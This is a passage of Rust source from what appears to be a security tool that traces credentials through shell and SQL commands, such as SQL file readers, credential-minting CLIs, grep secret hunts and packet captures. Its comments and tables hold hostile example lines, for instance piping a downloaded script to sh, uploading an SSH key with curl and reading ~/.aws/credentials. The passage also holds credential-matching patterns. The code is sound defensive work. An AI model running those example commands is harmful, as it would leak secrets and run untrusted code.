            Some(env_matches(name, words).map_or_else(
                || FlowSource::Environment { by: by.clone() },
                |pattern| FlowSource::EnvironmentMatches {
                    by: format!("{by} | {name} {pattern}"),
                },
            ))
        }
        // A transform of secret data is still secret (`tr`, `sed`, `rev`, an unknown filter);
        // only programs that print facts about their input (`wc`) end the flow.
        Producer::Secret(s) if emits => Some(s.clone()),
        _ => None,
    }
}

/// The pattern of a search over its standard input that selects credentials (`grep -i
/// token`, `rg -e SECRET`, `grep -E 'KEY|PASSWORD'`), read from the parsed options: the
/// filter that turns an environment dump into a list of its secrets. A search naming files,
/// or printing only counts or a status (`grep -c`, `grep -q`), selects nothing shown.
fn env_matches<'w>(name: &str, words: &'w [Word]) -> Option<&'w str> {
    if !CONTENT_SEARCHERS.contains(&name) {
        return None;
    }
    let search = search_words(name, words)?;
    let mut operands = search.operands.into_iter();
    let pattern = match search.pattern {
        Some(p) => p,
        None => operands.next()?,
    };
    (operands.next().is_none() && pattern.exact && names_credentials(&pattern.text))
        .then_some(pattern.text.as_str())
}

/// Table and scalar functions whose first string argument is a file the engine reads:
/// DuckDB's `read_*` family, ClickHouse's `file`, SQLite's `readfile` (fileio extension),
/// PostgreSQL's `pg_read_file`/`pg_read_binary_file` (the server's files) and MySQL's
/// `load_file`. One table for every client: the names are the engines' own and a function
/// call with a string literal as its first argument is not something else in another
/// dialect.
const SQL_FILE_READERS: &[&str] = &[
    "read_text",
    "read_blob",
    "read_csv",
    "read_csv_auto",
    "read_json",
    "read_json_auto",
    "read_json_objects",
    "read_ndjson",
    "read_ndjson_auto",
    "read_parquet",
    "parquet_scan",
    "read_xlsx",
    "st_read",
    "file",
    "readfile",
    "pg_read_file",
    "pg_read_binary_file",
    "load_file",
];

/// ClickHouse table functions that write to another machine when inserted into (`INSERT INTO
/// FUNCTION url('https://…', …)`).
const SQL_REMOTE_FUNCTIONS: &[&str] = &[
    "url",
    "s3",
    "s3cluster",
    "gcs",
    "azureblobstorage",
    "hdfs",
    "remote",
    "remotesecure",
    "mysql",
    "postgresql",
    "mongodb",
];

/// One token of SQL as [`sql_file_io`] reads it.
#[derive(Debug, PartialEq)]
enum SqlTok<'s> {
    Word(&'s str),
    Str(&'s str),
    Open,
    /// `;`: a statement ends (what `COPY` started does not reach the next one).
    End,
    Other,
}

/// SQL text as words, string literals (their content, case kept: they are paths) and
/// parentheses; comments skipped.
fn sql_tokens(text: &str) -> Vec<SqlTok<'_>> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = bytes.get(i) {
        match c {
            b'\'' | b'"' => {
                let start = i + 1;
                let end = text
                    .get(start..)
                    .and_then(|r| r.find(char::from(c)))
                    .map_or(text.len(), |e| start + e);
                let body = text.get(start..end).unwrap_or("");
                out.push(if c == b'"' {
                    SqlTok::Word(body)
                } else {
                    SqlTok::Str(body)
                });
                i = end + 1;
            }
            b'-' if bytes.get(i + 1) == Some(&b'-') => {
                i = text
                    .get(i..)
                    .and_then(|r| r.find('\n'))
                    .map_or(text.len(), |e| i + e);
            }
            b'(' => {
                out.push(SqlTok::Open);
                i += 1;
            }
            b';' => {
                out.push(SqlTok::End);
                i += 1;
            }
            _ if c.is_ascii_alphanumeric() || c == b'_' => {
                let start = i;
                while bytes
                    .get(i)
                    .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
                {
                    i += 1;
                }
                out.push(SqlTok::Word(text.get(start..i).unwrap_or("")));
            }
            _ if c.is_ascii_whitespace() => i += 1,
            _ => {
                out.push(SqlTok::Other);
                i += 1;
            }
        }
    }
    out
}

/// A URL naming another machine or an object store (`s3://b/k`, `https://h/p`, `gs://…`).
fn is_remote_url(text: &str) -> bool {
    text.split_once("://").is_some_and(|(scheme, _)| {
        matches!(
            scheme.to_ascii_lowercase().as_str(),
            "s3" | "s3a"
                | "s3n"
                | "gs"
                | "gcs"
                | "r2"
                | "az"
                | "azure"
                | "abfs"
                | "abfss"
                | "http"
                | "https"
                | "hf"
                | "hdfs"
                | "ftp"
                | "sftp"
        )
    })
}

/// What SQL does with files and programs outside the database, as [`sql_file_io`] reads it.
#[derive(Debug, Default)]
pub(crate) struct SqlFileIo {
    /// The credential file the SQL reads (a reader function's literal path, DuckDB's and
    /// PostgreSQL's `FROM 'path'`, MySQL's `INFILE 'path'`), or a file the line filled with
    /// secrets earlier.
    pub source: Option<FlowSource>,
    /// The remote place it writes to (`COPY … TO 's3://…'`, `INSERT INTO FUNCTION url(…)`).
    pub remote: Option<String>,
    /// Local files it writes (`COPY … TO '/tmp/o.csv'`, `INTO OUTFILE`/`DUMPFILE`,
    /// `writefile('p', …)`, `lo_export(oid, 'p')`): each is a write of that path, and holds
    /// the secret when the SQL read one.
    pub writes: Vec<String>,
    /// Commands it runs (`COPY … FROM PROGRAM 'cmd'`, `TO PROGRAM 'cmd'`, psql's `\copy …
    /// program`): shell run by the server or the client.
    pub programs: Vec<String>,
    /// Whether it stores rows (`INSERT`, `CREATE … AS`, `UPDATE`, `REPLACE`, `COPY … FROM`):
    /// a secret it read then sits in the database file.
    pub stores: bool,
}

/// Reads what SQL given to a database client does outside the database (see [`SqlFileIo`]).
/// Why: the engines are file readers, file writers and program runners of their own —
/// `insert … readfile('~/.aws/credentials')` fills the database file with a credential,
/// `select writefile('~/.bashrc', …)` writes a start-up file, `COPY t FROM PROGRAM 'curl … |
/// sh'` runs a downloaded script — and none of it is visible in the client's argv.
pub(crate) fn sql_file_io(
    texts: &[&str],
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> SqlFileIo {
    let mut io = SqlFileIo::default();
    for text in texts {
        sqlite_dot_io(text, &mut io, cwd, ctx, files);
        let toks = sql_tokens(text);
        // The statement began with `COPY` (psql's `\copy` too): its `TO 'x'` is a file.
        let mut copying = false;
        for (i, t) in toks.iter().enumerate() {
            let next = toks.get(i + 1);
            let after = toks.get(i + 2);
            let word = |w: &str, k: &str| w.eq_ignore_ascii_case(k);
            match (t, next, after) {
                (SqlTok::End, _, _) => copying = false,
                (SqlTok::Word(f), Some(SqlTok::Open), Some(SqlTok::Str(path)))
                    if SQL_FILE_READERS.iter().any(|r| r.eq_ignore_ascii_case(f)) =>
                {
                    io.source = io.source.or_else(|| file_source(path, cwd, ctx, files));
                }
                (SqlTok::Word(f), Some(SqlTok::Open), Some(SqlTok::Str(path)))
                    if word(f, "writefile") =>
                {
                    io.writes.push((*path).to_owned());
                }
                (SqlTok::Word(f), Some(SqlTok::Open), Some(SqlTok::Word(_)))
                    if word(f, "lo_export") =>
                {
                    if let Some(SqlTok::Str(path)) = toks.get(i + 4) {
                        io.writes.push((*path).to_owned());
                    }
                }
                (SqlTok::Word(kw), Some(SqlTok::Str(path)), _)
                    if word(kw, "from") || word(kw, "infile") =>
                {
                    io.source = io.source.or_else(|| file_source(path, cwd, ctx, files));
                    io.stores |= copying || word(kw, "infile");
                }
                (SqlTok::Word(kw), Some(SqlTok::Str(code)), _) if word(kw, "program") => {
                    io.programs.push((*code).to_owned());
                }
                (SqlTok::Word(kw), Some(SqlTok::Str(to)), _)
                    if word(kw, "to") && is_remote_url(to) =>
                {
                    io.remote = io.remote.take().or_else(|| Some((*to).to_owned()));
                }
                (SqlTok::Word(kw), Some(SqlTok::Str(to)), _) if word(kw, "to") && copying => {
                    io.writes.push((*to).to_owned());
                }
                (SqlTok::Word(kw), Some(SqlTok::Str(out)), _)
                    if word(kw, "outfile") || word(kw, "dumpfile") =>
                {
                    io.writes.push((*out).to_owned());
                }
                (SqlTok::Word(kw), Some(SqlTok::Word(f)), Some(SqlTok::Open))
                    if word(kw, "function")
                        && SQL_REMOTE_FUNCTIONS
                            .iter()
                            .any(|r| r.eq_ignore_ascii_case(f)) =>
                {
                    let target = match toks.get(i + 3) {
                        Some(SqlTok::Str(u)) => (*u).to_owned(),
                        _ => format!("{f}(…)"),
                    };
                    io.remote = io.remote.take().or(Some(target));
                }
                (SqlTok::Word(kw), _, _) => {
                    if word(kw, "copy") {
                        copying = true;
                    }
                    io.stores |= ["insert", "update", "replace", "create"]
                        .iter()
                        .any(|k| word(kw, k));
                }
                _ => {}
            }
        }
    }
    io
}

/// The sqlite3 shell's dot-commands that touch files and programs: `.import FILE TABLE`
/// reads a file into the database, `.output FILE`/`.once FILE` write what follows to a file,
/// and `.output |CMD`/`.once |CMD` pipe it to a shell command (`.shell`/`.system` are judged
/// with the clients' other shell escapes).
fn sqlite_dot_io(text: &str, io: &mut SqlFileIo, cwd: &Cwd, ctx: &Context, files: &LineState) {
    for line in text.lines() {
        let mut words = line.split_whitespace();
        let Some(dot) = words.next() else { continue };
        let mut operands = words.filter(|w| !w.starts_with('-'));
        match dot {
            ".import" => {
                if let Some(f) = operands.next() {
                    let f = f.trim_matches(['\'', '"']);
                    if let Some(code) = f.strip_prefix('|') {
                        io.programs.push(code.to_owned());
                    } else {
                        io.source = io.source.take().or_else(|| file_source(f, cwd, ctx, files));
                    }
                    io.stores = true;
                }
            }
            ".output" | ".once" => {
                let rest = line
                    .trim_start()
                    .get(dot.len()..)
                    .unwrap_or("")
                    .trim_start();
                if let Some(code) = rest.strip_prefix('|') {
                    io.programs.push(code.trim().to_owned());
                } else if let Some(f) = operands.next() {
                    io.writes.push(f.trim_matches(['\'', '"']).to_owned());
                }
            }
            _ => {}
        }
    }
}

/// `name` and its words as one line, for a flow's description.
fn shown(name: &str, words: &[Word]) -> String {
    let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
    format!("{name} {}", texts.join(" ")).trim().to_owned()
}

/// Packet capture and sniffing tools: what they record live is other programs' traffic,
/// credentials and session cookies included.
const CAPTURE_TOOLS: &[&str] = &[
    "tcpdump",
    "tshark",
    "dumpcap",
    "ngrep",
    "tcpflow",
    "windump",
    "snoop",
    "sniffglue",
];

/// Where a packet capture's live traffic goes.
#[derive(Debug, PartialEq, Eq)]
enum Capture<'w> {
    /// To standard output: the decoded packets, or a pcap with `-w -`.
    Stdout,
    /// To a capture file (`-w FILE`; empty: a file of the tool's own choosing).
    File(&'w str),
    /// Nothing live: it reads a saved capture (`-r FILE`, ngrep's `-I FILE`), or only lists
    /// interfaces or prints its version.
    Nothing,
}

/// Where a packet capture tool's live traffic goes (see [`Capture`]).
fn capture_output<'w>(name: &str, words: &'w [Word]) -> Capture<'w> {
    let mut out: Option<&str> = None;
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        let value = |i: usize| words.get(i).map(|v| v.text.as_str());
        match (name, t) {
            (
                _,
                "-r" | "--read-file" | "-D" | "--list-interfaces" | "-L" | "--version" | "-h"
                | "--help",
            )
            | ("ngrep", "-I")
            | ("tcpflow", "-R") => return Capture::Nothing,
            // ngrep's `-w` matches whole words; its capture file is `-O`.
            ("ngrep", "-O") => {
                out = value(i);
                i += 1;
            }
            (n, "-w") if n != "ngrep" => {
                out = value(i);
                i += 1;
            }
            _ if name != "ngrep" && t.len() > 2 && t.starts_with("-w") && !t.starts_with("--") => {
                out = t.get(2..);
            }
            _ if t.len() > 2 && t.starts_with("-r") && !t.starts_with("--") => {
                return Capture::Nothing;
            }
            _ => {}
        }
    }
    // dumpcap always writes a capture file (a temporary one without `-w`); tcpflow writes one
    // file per connection unless told to print them (`-c`, `-C`, `-D`).
    match (name, out) {
        (_, Some("-")) => Capture::Stdout,
        (_, Some(file)) => Capture::File(file),
        ("dumpcap", None) => Capture::File(""),
        ("tcpflow", None) if !words.iter().any(|w| matches!(w.text.as_str(), "-c" | "-C")) => {
            Capture::File("")
        }
        _ => Capture::Stdout,
    }
}

/// Commands that mint a new credential and print it (`vault token create`, `npm token
/// create`, `aws iam create-access-key`, `az ad sp create-for-rbac`) or print a short-lived
/// one made for the asker (`aws codeartifact get-authorization-token`, `aws eks get-token`,
/// `doctl auth token`), or print an existing one (`consul acl token read -self`, `vault print
/// token`): a flow source wherever the output goes. Unlike the
/// `credential_access` rules of the taxonomy these are not asked on their own — several are
/// documented as assigned to a variable for the tool that needs them
/// (`CODEARTIFACT_AUTH_TOKEN=$(aws codeartifact get-authorization-token …)`) — only when the
/// printed credential reaches a sink. Matched on the verb path among the command's operands.
const MINTERS: &[(&[&str], &[&str])] = &[
    (&["vault", "bao"], &["token", "create"]),
    (&["vault", "bao"], &["token", "create-orphan"]),
    (&["vault", "bao"], &["login"]),
    (&["doctl"], &["auth", "token"]),
    (&["flyctl", "fly"], &["auth", "token"]),
    (&["flyctl", "fly"], &["tokens", "create"]),
    (&["npm", "pnpm"], &["token", "create"]),
    (&["aws"], &["codeartifact", "get-authorization-token"]),
    (&["aws"], &["rds", "generate-db-auth-token"]),
    (&["aws"], &["eks", "get-token"]),
    (&["aws"], &["ecr", "get-authorization-token"]),
    (&["aws"], &["iam", "create-access-key"]),
    (&["aws"], &["iam", "create-service-specific-credential"]),
    (&["aws"], &["iam", "create-login-profile"]),
    (&["aws"], &["sts", "assume-role-with-web-identity"]),
    (&["aws"], &["sts", "assume-role-with-saml"]),
    (&["aws"], &["sso-oidc", "create-token"]),
    (&["gcloud"], &["iam", "service-accounts", "keys", "create"]),
    (&["gcloud"], &["sql", "generate-login-token"]),
    (&["gcloud"], &["auth", "print-refresh-token"]),
    (&["az"], &["ad", "sp", "create-for-rbac"]),
    (&["az"], &["ad", "sp", "credential", "reset"]),
    (&["az"], &["ad", "app", "credential", "reset"]),
    (&["az"], &["storage", "account", "generate-sas"]),
    (&["az"], &["storage", "container", "generate-sas"]),
    (&["az"], &["storage", "blob", "generate-sas"]),
    (&["consul"], &["acl", "token", "create"]),
    (&["nomad"], &["acl", "token", "create"]),
    (&["openstack"], &["token", "issue"]),
    (&["kubeadm"], &["token", "create"]),
    (&["k3s"], &["token", "create"]),
    (&["step"], &["ca", "token"]),
    (&["cf"], &["oauth-token"]),
    (&["heroku"], &["authorizations:create"]),
    (&["bw"], &["unlock"]),
    (&["gh"], &["auth", "token"]),
    (&["glab"], &["auth", "token"]),
    (&["linode-cli"], &["profile", "token-create"]),
    (&["hcloud"], &["context", "export"]),
    // Existing tokens printed: the ACL token's secret ID (`consul acl token read -self`,
    // `nomad acl token self`), the client's own token (`vault print token`, `vault token
    // lookup` shows it as `id`).
    (&["consul"], &["acl", "token", "read"]),
    (&["nomad"], &["acl", "token", "self"]),
    (&["nomad"], &["acl", "token", "info"]),
    (&["vault", "bao"], &["print", "token"]),
    (&["vault", "bao"], &["token", "lookup"]),
];

/// `names::shapes` of every name of [`MINTERS`], merged.
const MINTER_SHAPES: [u64; 256] = {
    let mut t = [0u64; 256];
    let mut i = 0;
    while i < MINTERS.len() {
        let s = crate::names::shapes(MINTERS[i].0);
        let mut b = 0;
        while b < 256 {
            t[b] |= s[b];
            b += 1;
        }
        i += 1;
    }
    t
};

/// True when `name words` is one of the [`MINTERS`]: its operands (options and their attached
/// values left out) contain the verb path in order, contiguously (global options with a
/// separate value may come before it: `aws --profile p iam create-access-key`).
fn mints_credential(name: &str, words: &[Word]) -> bool {
    // Runs for every command: the name decides for almost all before the words are read —
    // first by its (first byte, length) shape against every [`MINTERS`] name (one load; a
    // name no entry has the shape of is in no entry's list), then entry by entry.
    if !crate::names::shape_admits(&MINTER_SHAPES, name) {
        return false;
    }
    let mut paths = MINTERS
        .iter()
        .filter(|(names, _)| names.contains(&name))
        .map(|(_, path)| *path)
        .peekable();
    if paths.peek().is_none() {
        return false;
    }
    let operands: Vec<&str> = words
        .iter()
        .filter(|w| !w.text.starts_with('-'))
        .map(|w| w.text.as_str())
        .take(8)
        .collect();
    paths.any(|path| operands.windows(path.len()).any(|w| w == path))
}

/// jq's program: the first operand, past its options (and the values of those that take
/// one: `--arg NAME VALUE`, `-f FILE` makes the program a file, not on the line).
fn jq_program(words: &[Word]) -> Option<&str> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        match t {
            "--arg" | "--argjson" | "--slurpfile" | "--rawfile" => i += 2,
            "--indent" | "-L" | "--tab-width" => i += 1,
            "-f" | "--from-file" => return None,
            _ if t.starts_with('-') && t.len() > 1 => {}
            _ => return w.exact.then_some(t),
        }
    }
    None
}

/// Whether a jq program reads the environment: the builtin `env` or `$ENV` (not a field
/// named so: `.env`, `.foo.env`, or text inside a string).
fn jq_reads_environment(program: &str) -> bool {
    let bytes = program.as_bytes();
    let mut i = 0;
    let mut prev = b' ';
    while let Some(&b) = bytes.get(i) {
        if b == b'"' {
            i += 1;
            while let Some(&c) = bytes.get(i) {
                i += if c == b'\\' { 2 } else { 1 };
                if c == b'"' {
                    break;
                }
            }
            prev = b'"';
            continue;
        }
        if b.is_ascii_alphabetic() || b == b'_' || b == b'$' {
            let start = i;
            i += 1;
            while bytes
                .get(i)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
            {
                i += 1;
            }
            let ident = program.get(start..i).unwrap_or("");
            if ident == "$ENV" || (ident == "env" && prev != b'.') {
                return true;
            }
            prev = b'a';
            continue;
        }
        if !b.is_ascii_whitespace() {
            prev = b;
        }
        i += 1;
    }
    false
}

/// The index in `words` (a command's arguments) of the operand that is the program's own
/// language rather than a file: grep's and ripgrep's pattern, jq's and yq's filter, awk's
/// program, sed's script — unless an option gives it (`-e PAT`, `-f FILE`), when every
/// operand is a file. `grep -n '.env.production' README.md` reads README.md, not `.env.*`.
pub(crate) fn program_operand(name: &str, words: &[Word]) -> Option<usize> {
    let (given_by, valued): (&[&str], &[&str]) = match name {
        "grep" | "egrep" | "fgrep" | "ggrep" | "ugrep" | "rg" | "ag" | "ack" | "ack-grep"
        | "pt" | "sift" | "zgrep" => (
            &["-e", "-f", "--regexp", "--file"],
            &[
                "-A",
                "-B",
                "-C",
                "-m",
                "-d",
                "-D",
                "-g",
                "-t",
                "-T",
                "-M",
                "-j",
                "--max-count",
                "--after-context",
                "--before-context",
                "--context",
                "--glob",
                "--iglob",
                "--type",
                "--type-not",
                "--max-depth",
                "--color",
                "--colors",
                "--include",
                "--exclude",
                "--exclude-dir",
                "--directories",
                "--devices",
                "--threads",
                "--max-columns",
                "--label",
            ],
        ),
        "jq" | "gojq" | "jaq" | "yq" => (
            &["-f", "--from-file"],
            &[
                "--indent",
                "--arg",
                "--argjson",
                "--slurpfile",
                "--rawfile",
                "-L",
            ],
        ),
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => (
            &["-f", "--file"],
            &["-v", "-F", "--assign", "--field-separator"],
        ),
        "sed" | "gsed" => (
            &["-e", "-f", "--expression", "--file"],
            &["-l", "--line-length"],
        ),
        _ => return None,
    };
    let mut i = 0;
    let mut found = None;
    while let Some(w) = words.get(i) {
        let t = w.text.as_str();
        if w.exact
            && given_by.iter().any(|g| {
                t == *g
                    || t.strip_prefix(g)
                        .is_some_and(|r| r.starts_with('=') || g.len() == 2)
            })
        {
            return None;
        }
        if found.is_none() {
            if t == "--" {
                found = Some(i + 1).filter(|k| *k < words.len());
            } else if w.exact && t.starts_with('-') && t.len() > 1 {
                // jq's `--arg NAME VALUE` takes two.
                if matches!(t, "--arg" | "--argjson" | "--slurpfile" | "--rawfile") {
                    i += 2;
                } else if valued.contains(&t) {
                    i += 1;
                }
            } else {
                found = Some(i);
            }
        }
        i += 1;
    }
    found
}

/// Content searchers that recurse into directories (grep only with `-r`/`-R`).
const CONTENT_SEARCHERS: &[&str] = &[
    "grep", "egrep", "fgrep", "rg", "ag", "ack", "ack-grep", "ugrep", "pt", "sift",
];

/// Words of a search pattern that aim it at credentials (compared on the pattern folded to
/// lowercase letters, digits and `_`): key material, cloud and forge token prefixes, and the
/// names configuration files give secrets.
const CREDENTIAL_MARKERS: &[&str] = &[
    "private_key",
    "privatekey",
    "secret",
    "password",
    "passwd",
    "token",
    "api_key",
    "apikey",
    "credential",
    "akia",
    "ghp_",
    "gho_",
    "github_pat",
    "glpat",
    "xoxb",
    "xoxp",
    "sk_live",
    "bearer",
    "authorization",
];

/// `grep -rn 'aws_secret_access_key' ~`, `rg -uu -i 'api[_-]?key' /`, `grep -R "BEGIN
/// OPENSSH PRIVATE KEY" /home`: a recursive content search for credential markers over the
/// home directory (or above it, or a system directory) prints the secrets it finds — a
/// secret scanner by another name. Returns the searched root. A search in the workspace
/// (`rg -i token src/`), one that prints only names or counts (`-l`, `-c`, `-q`), or one
/// for other words stays ordinary work. The pattern is the parsed operand (`-e PAT` or the
/// first operand), read by its words, not the line's text.
pub(crate) fn hunts_credentials(
    name: &str,
    words: &[Word],
    cwd: &Cwd,
    ctx: &Context,
) -> Option<String> {
    if !CONTENT_SEARCHERS.contains(&name) {
        return None;
    }
    let search = search_words(name, words)?;
    if !search.recursive {
        return None;
    }
    let mut roots = search.operands.into_iter();
    let pattern = match search.pattern {
        Some(p) => p,
        None => roots.next()?,
    };
    if !pattern.exact || !names_credentials(&pattern.text) {
        return None;
    }
    roots
        .find(|r| {
            r.exact && {
                let t = r.text.trim_end_matches('/');
                targets::is_home_or_above(&r.text, cwd, ctx)
                    || matches!(
                        if t.is_empty() { "/" } else { t },
                        "/" | "/etc" | "/root" | "/home" | "/Users" | "/var" | "/opt" | "/srv"
                    )
            }
        })
        .map(|r| r.text.clone())
}

/// A content search's command line as its options read it: whether it recurses, its
/// pattern (`-e PAT`/`--regexp PAT`; otherwise the first operand, left among `operands`)
/// and its operands. `None` when it prints only names, counts or a status (`-l`, `-c`,
/// `-q`): such a search shows no matched text.
struct Search<'w> {
    recursive: bool,
    pattern: Option<&'w Word>,
    operands: Vec<&'w Word>,
}

fn search_words<'w>(name: &str, words: &'w [Word]) -> Option<Search<'w>> {
    const VALUED: &[&str] = &[
        "-e",
        "-f",
        "-m",
        "-A",
        "-B",
        "-C",
        "-d",
        "-D",
        "-g",
        "-t",
        "-T",
        "-M",
        "-j",
        "--regexp",
        "--file",
        "--max-count",
        "--after-context",
        "--before-context",
        "--context",
        "--directories",
        "--devices",
        "--include",
        "--exclude",
        "--exclude-dir",
        "--glob",
        "--iglob",
        "--type",
        "--type-not",
        "--max-depth",
        "--max-columns",
        "--threads",
        "--color",
        "--colors",
        "--ignore-dir",
        "--path-to-ignore",
    ];
    let grep_like = matches!(name, "grep" | "egrep" | "fgrep" | "ugrep");
    let mut recursive = !grep_like;
    let mut pattern: Option<&Word> = None;
    let mut operands: Vec<&Word> = Vec::new();
    let mut i = 0;
    let mut options_done = false;
    while let Some(w) = words.get(i) {
        i += 1;
        let t = w.text.as_str();
        if options_done || !w.exact || !t.starts_with('-') || t == "-" {
            operands.push(w);
            continue;
        }
        if t == "--" {
            options_done = true;
            continue;
        }
        if let Some(long) = t.strip_prefix("--") {
            let (opt, value) = long
                .split_once('=')
                .map_or((long, None), |(o, v)| (o, Some(v)));
            match opt {
                "recursive" | "dereference-recursive" => recursive = true,
                "files-with-matches"
                | "files-without-match"
                | "count"
                | "count-matches"
                | "quiet"
                | "silent"
                | "files" => return None,
                "directories" if value == Some("recurse") => recursive = true,
                "regexp" => {
                    if value.is_none() {
                        pattern = words.get(i);
                        i += 1;
                    }
                }
                _ => {
                    if value.is_none() && VALUED.contains(&t) {
                        if t == "--directories" && words.get(i).is_some_and(|v| v.text == "recurse")
                        {
                            recursive = true;
                        }
                        i += 1;
                    }
                }
            }
            continue;
        }
        // A short cluster (`-rni`, `-e PAT`, `-ePAT`): a letter taking a value ends it.
        let letters = t.get(1..).unwrap_or("");
        for (k, c) in letters.char_indices() {
            match c {
                'r' | 'R' if grep_like => recursive = true,
                'l' | 'L' | 'c' | 'q' => return None,
                'e' | 'f' | 'm' | 'A' | 'B' | 'C' | 'd' | 'D' | 'g' | 't' | 'T' | 'M' | 'j' => {
                    let attached = letters.get(k + c.len_utf8()..).unwrap_or("");
                    if attached.is_empty() {
                        if c == 'e' {
                            pattern = words.get(i);
                        }
                        i += 1;
                    }
                    break;
                }
                _ => {}
            }
        }
    }
    Some(Search {
        recursive,
        pattern,
        operands,
    })
}

/// Whether a search pattern is aimed at credentials (see [`CREDENTIAL_MARKERS`]): its text
/// folded to lowercase letters, digits and `_` (`api[_-]?key` is `api__key`… read as
/// `api_key` once runs of `_` are one) holds a marker, or names private key material
/// (`BEGIN.*PRIVATE KEY`).
fn names_credentials(pattern: &str) -> bool {
    let mut folded = String::with_capacity(pattern.len());
    for c in pattern.chars() {
        let c = if c.is_ascii_alphanumeric() {
            c.to_ascii_lowercase()
        } else {
            '_'
        };
        if !(c == '_' && folded.ends_with('_')) {
            folded.push(c);
        }
    }
    // Regex syntax between words (`api[_-]?key` → `api_key`, `secret.*key`).
    let has = |marker: &str| holds(&folded, marker);
    CREDENTIAL_MARKERS.iter().any(|m| has(m)) || (has("private") && (has("begin") || has("key")))
}

/// `haystack.contains(needle)` by a byte pass: a search pattern is a few bytes long, and the
/// library's searcher costs more to set up for each marker than this scan does.
fn holds(haystack: &str, needle: &str) -> bool {
    let (hay, want) = (haystack.as_bytes(), needle.as_bytes());
    let Some(&first) = want.first() else {
        return true;
    };
    hay.len() >= want.len()
        && hay
            .windows(want.len())
            .any(|w| w.first() == Some(&first) && w == want)
}

/// `age`/`rage` encrypting to stdout (no `-d`, no `-o`): the ciphertext of the file or
/// stdin goes on, and whoever holds the recipient's key reads it, so a secret stays secret
/// through it (`age -r KEY ~/.ssh/id_rsa | curl -T - …`), as through `gzip` or `openssl enc`.
/// Decrypting prints the plaintext, which the credential rules judge; `-i KEY` is the
/// identity used, never printed.
fn encrypts_to_stdout(name: &str, words: &[Word]) -> bool {
    matches!(name, "age" | "rage")
        && !words.iter().any(|w| {
            w.exact
                && (matches!(w.text.as_str(), "-d" | "--decrypt" | "-o" | "--output")
                    || w.text.starts_with("--output="))
        })
}

/// The file `git bundle create FILE …` or `git archive -o FILE …` (`--output=FILE`) writes the
/// repository's history or tree to; `None` for stdout (`-`, judged as a stream by
/// [`command_source`]) and every other git command.
fn git_repository_file(words: &[Word]) -> Option<&str> {
    let sub = words.iter().position(|w| !w.text.starts_with('-'))?;
    let rest = words.get(sub + 1..)?;
    let file = match words.get(sub)?.text.as_str() {
        "bundle" if rest.first().is_some_and(|w| w.text == "create") => rest
            .get(1..)?
            .iter()
            .find(|w| !w.text.starts_with('-'))
            .map(|w| w.text.as_str()),
        "archive" => rest.iter().enumerate().find_map(|(i, w)| {
            let t = w.text.as_str();
            match t {
                "-o" | "--output" => rest.get(i + 1).map(|v| v.text.as_str()),
                _ => t
                    .strip_prefix("--output=")
                    .or_else(|| t.strip_prefix("-o").filter(|v| !v.is_empty())),
            }
        }),
        _ => None,
    };
    file.filter(|f| *f != "-")
}

/// The workspace, the home directory or a directory holding either, when an archiver in
/// create mode packs it (`tar czf - .`, `zip -qr - ~`, `7z a -so x .`): everything in it —
/// the project's `.env`, keys, history — is in the archive, so streaming it to the network is
/// the bulk upload [`FlowSource::FoundFiles`] stands for. `-C DIR` moves tar's operands
/// elsewhere: not judged here.
fn archived_tree(name: &str, words: &[Word], cwd: &Cwd, ctx: &Context) -> Option<String> {
    let Cwd::Known(base) = cwd else { return None };
    let tar = matches!(name, "tar" | "gtar" | "bsdtar");
    if tar {
        let create = words.iter().take(1).any(|w| {
            w.exact && !w.text.starts_with("--") && w.text.trim_start_matches('-').contains('c')
        }) || words.iter().any(|w| {
            w.exact
                && (w.text == "--create"
                    || (w.text.starts_with('-')
                        && !w.text.starts_with("--")
                        && w.text.contains('c')))
        });
        let moved = words
            .iter()
            .any(|w| w.exact && (w.text == "-C" || w.text.starts_with("--directory")));
        if !create || moved {
            return None;
        }
    } else if matches!(name, "7z" | "7za") && words.first().is_none_or(|w| w.text != "a") {
        return None;
    }
    let whole = |raw: &str| {
        let n = hookgate_paths::normalize(raw, base, ctx.home.as_deref());
        let p = n.path.as_path();
        n.escaped_root
            || hookgate_paths::is_within(&ctx.cwd, p)
            || ctx
                .home
                .as_deref()
                .is_some_and(|h| hookgate_paths::is_within(h, p))
    };
    words
        .iter()
        .skip(usize::from(
            tar && words.first().is_some_and(|w| !w.text.starts_with('-')),
        ))
        .filter(|w| w.exact && !w.text.starts_with('-') && !w.text.is_empty())
        .find(|w| whole(&w.text))
        .map(|w| w.text.clone())
}

/// `xclip -o` / `xclip -out`, `xsel -o`/`--output` (also clustered: `xsel -ob`): the
/// clipboard printed. Without it, xclip and xsel copy their input *into* the clipboard.
fn clipboard_read(name: &str, words: &[Word]) -> bool {
    words.iter().any(|w| {
        let t = w.text.as_str();
        match name {
            "xclip" => matches!(t, "-o" | "-out" | "-output"),
            _ => {
                t == "--output"
                    || (t.starts_with('-') && !t.starts_with("--") && t[1..].contains('o'))
            }
        }
    })
}

/// Programs that read files or stdin but print only facts about them (counts, sizes, hashes,
/// types, listings) or nothing at all: a credential file named to them is not on their stdout.
/// Everything else is assumed to print what it reads (the flow model's default for programs it
/// does not know).
fn is_non_emitting(name: &str) -> bool {
    matches!(
        name,
        // keytool prints certificates and listings (public parts); a keystore's private keys
        // leave it only through `-importkeystore` into another keystore file, a write.
        "keytool"
            | "wc"
            | "stat"
            | "test"
            | "["
            | "[["
            | "ls"
            | "ll"
            | "la"
            | "dir"
            | "file"
            | "du"
            | "df"
            | "md5sum"
            | "sha1sum"
            | "sha224sum"
            | "sha256sum"
            | "sha384sum"
            | "sha512sum"
            | "b2sum"
            | "cksum"
            | "sum"
            | "shasum"
            | "md5"
            | "realpath"
            | "readlink"
            | "basename"
            | "dirname"
            | "touch"
            | "chmod"
            | "chown"
            | "chgrp"
            | "chattr"
            | "lsattr"
            | "rm"
            | "unlink"
            | "shred"
            | "mkdir"
            | "rmdir"
            | "cp"
            | "mv"
            | "ln"
            | "install"
            | "true"
            | "false"
            | ":"
            | "echo"
            | "printf"
            | "which"
            | "type"
            | "command"
            | "ssh-keygen"
            | "ssh-add"
            | "ssh-copy-id"
